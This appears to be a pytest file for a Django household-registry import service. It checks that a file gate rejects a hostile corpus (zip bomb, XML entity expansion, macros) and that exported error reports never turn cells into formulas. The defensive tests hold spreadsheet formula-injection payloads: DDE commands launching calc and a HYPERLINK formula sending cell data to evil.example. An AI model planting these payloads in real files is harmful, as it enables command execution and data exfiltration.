"""C14 (hostile import corpus) and C15 (formula-inert error report), through the gate and the API."""

from __future__ import annotations

import json
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from creditvillage.collection.imports import gate, hostile, services
from creditvillage.collection.imports.samples import KEYS, household_rows, xlsx_bytes
from creditvillage.core.models import Job
from creditvillage.registry.models import Household, Person
from tests.fixtures import PASSWORD, World

ZHOUAN = "341502204201"
ROOT = Path(__file__).resolve().parents[3]


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Path, str]]:
    return hostile.corpus(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = str(tmp_path)


def token_client(username: str) -> Client:
    client = Client()
    response = client.post(
        "/api/v1/auth/token", {"username": username, "password": PASSWORD}, content_type="application/json"
    )
    assert response.status_code == 200, response.content
    client.defaults["HTTP_AUTHORIZATION"] = f"Bearer {response.json()['token']}"
    return client


NAMES = [
    "renamed_exe",
    "random_bytes",
    "csv_gbk",
    "csv_utf8_bom",
    "legacy_xls",
    "zip_bomb",
    "lying_size_small",
    "lying_size_huge",
    "million_rows",
    "macros_xlsm",
    "macros_renamed",
    "external_links",
    "entity_expansion",
    "not_a_workbook_zip",
    "truncated_zip",
]


def test_the_corpus_is_complete(corpus: dict[str, tuple[Path, str]]) -> None:
    assert sorted(corpus) == sorted(NAMES)
    bomb = zipfile.ZipFile(corpus["zip_bomb"][0]).getinfo("xl/worksheets/sheet1.xml")
    assert bomb.file_size / bomb.compress_size >= 1000  # a real ≥ 1000:1 bomb


@pytest.mark.parametrize("name", NAMES)
def test_gate_refuses_each_hostile_file_quickly(corpus: dict[str, tuple[Path, str]], name: str) -> None:
    path, code = corpus[name]
    started = time.monotonic()
    with pytest.raises(gate.FileRejected) as refused:
        gate.inspect(path, path.name)
    assert refused.value.code == code
    assert refused.value.message, "a Chinese message for the user"
    assert time.monotonic() - started < 10


def test_csv_is_refused_with_a_message_suggesting_xlsx(corpus: dict[str, tuple[Path, str]]) -> None:
    for name in ("csv_gbk", "csv_utf8_bom"):
        path, _code = corpus[name]
        with pytest.raises(gate.FileRejected) as refused:
            gate.inspect(path, path.name)
        assert "CSV" in refused.value.message
        assert ".xlsx" in refused.value.message


GATE_SCRIPT = """
import json, os, resource, sys, time
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "creditvillage.settings")
import django
django.setup()
from pathlib import Path
from creditvillage.collection.imports import gate
out = {}
for name, path in json.loads(sys.argv[1]).items():
    started = time.monotonic()
    try:
        gate.inspect(Path(path), Path(path).name)
        code = "accepted"
    except gate.FileRejected as exc:
        code = exc.code
    out[name] = [code, time.monotonic() - started]
# VmHWM, not ru_maxrss: Linux carries ru_maxrss across fork+exec, so a child of a big test worker
# would report the worker's peak; VmHWM belongs to this process's own address space.
out["_max_rss_mb"] = int(open("/proc/self/status").read().split("VmHWM:")[1].split()[0]) / 1024
print(json.dumps(out))
"""


def test_gate_stays_within_10_s_and_512_mb_per_file_in_a_fresh_process(corpus: dict[str, tuple[Path, str]]) -> None:
    paths = {name: str(path) for name, (path, _code) in corpus.items()}
    done = subprocess.run(  # noqa: S603 - our own interpreter and script
        [sys.executable, "-c", GATE_SCRIPT, json.dumps(paths)],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=ROOT,
        check=True,
    )
    report = json.loads(done.stdout.strip().splitlines()[-1])
    assert report.pop("_max_rss_mb") < 512
    for name, (code, seconds) in report.items():
        assert code == corpus[name][1], name
        assert seconds < 10, name


CALAMINE_SCRIPT = """
import json, resource, sys
from python_calamine import CalamineWorkbook
try:
    rows = CalamineWorkbook.from_path(sys.argv[1]).get_sheet_by_index(0).to_python()
    text = json.dumps(rows, ensure_ascii=False)
except Exception as exc:  # a refusal is fine too
    text = type(exc).__name__
print(json.dumps({"longest": max((len(t) for t in text.split('"')), default=0), "lol": text.count("lol"),
                  "rss": int(open("/proc/self/status").read().split("VmHWM:")[1].split()[0]) / 1024}))
"""


def test_calamine_does_not_expand_xml_entities(corpus: dict[str, tuple[Path, str]]) -> None:
    """Second line of defence: even past the gate, calamine leaves a billion-laughs file small."""
    path, _code = corpus["entity_expansion"]
    done = subprocess.run(  # noqa: S603
        [sys.executable, "-c", CALAMINE_SCRIPT, str(path)], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 0, done.stderr[-500:]
    report = json.loads(done.stdout.strip().splitlines()[-1])
    assert report["lol"] < 10  # 10⁹ "lol" had the entities been expanded
    assert report["rss"] < 512


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name",
    [
        "renamed_exe",
        "csv_gbk",
        "zip_bomb",
        "million_rows",
        "macros_xlsm",
        "external_links",
        "entity_expansion",
        "lying_size_small",
    ],
)
def test_api_refuses_hostile_files_with_no_job_and_no_writes(
    world: World, corpus: dict[str, tuple[Path, str]], name: str
) -> None:
    path, code = corpus[name]
    client = token_client("collector")
    households, people = Household.objects.count(), Person.objects.count()
    with path.open("rb") as handle:
        response = client.post("/api/v1/imports/households", {"file": handle, "region": ZHOUAN})
    assert response.status_code == 422, response.content
    assert response.json()["code"] == code
    assert not Job.objects.filter(kind="household_import").exists()
    assert (Household.objects.count(), Person.objects.count()) == (households, people)
    assert not list((Path(services.media_path("imports"))).glob("*"))  # nothing left on disk


@pytest.mark.django_db
def test_too_large_upload_is_refused_before_and_after_parsing(world: World, settings: Any) -> None:
    settings.CV_IMPORT_MAX_BYTES = 100_000
    client = token_client("collector")
    big = xlsx_bytes(household_rows([ZHOUAN], 1)) + b"\0" * 300_000
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = client.post("/api/v1/imports/households", {"file": SimpleUploadedFile("a.xlsx", big), "region": ZHOUAN})
    assert response.status_code == 413
    assert response.json()["code"] == "file_too_large"
    # Just under the request cap but over the file cap: refused by the service after parsing.
    settings.CV_IMPORT_MAX_BYTES = 250_000
    medium = b"PK\x03\x04" + b"\0" * 260_000
    response = client.post(
        "/api/v1/imports/households", {"file": SimpleUploadedFile("a.xlsx", medium), "region": ZHOUAN}
    )
    assert response.status_code == 413
    assert response.json()["code"] == "file_too_large"
    assert not Job.objects.filter(kind="household_import").exists()


PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.mark.django_db
def test_error_report_is_formula_inert(world: World) -> None:
    """C15: payloads typed into cells come back in the report's messages as text, never as formulas."""
    rows = household_rows([ZHOUAN], len(PAYLOADS), seed=15, members=(1, 1))
    for row, payload in zip(rows, PAYLOADS, strict=True):
        row[KEYS.index("political_status")] = payload  # echoed in the bad_choice message
        row[KEYS.index("occupation")] = payload
    from django.core.files.uploadedfile import SimpleUploadedFile

    job = services.household_import_start(
        actor=world.users["collector"], region=ZHOUAN, upload=SimpleUploadedFile("p.xlsx", xlsx_bytes(rows))
    )
    result = services.household_import_run(job.pk)
    codes = {e["code"] for e in result["errors"]}
    assert {"bad_choice", "formula_text"} <= codes
    report = services.media_path(result["report"])
    with zipfile.ZipFile(report) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
        strings = sheet.decode()  # constant_memory: inline strings
    assert b"<f>" not in sheet
    assert b"<f " not in sheet
    assert any(payload[:10] in strings.replace("&amp;", "&").replace("&quot;", '"') for payload in PAYLOADS)
    assert Household.objects.filter(region_id=ZHOUAN, channel="excel_import").count() == 0
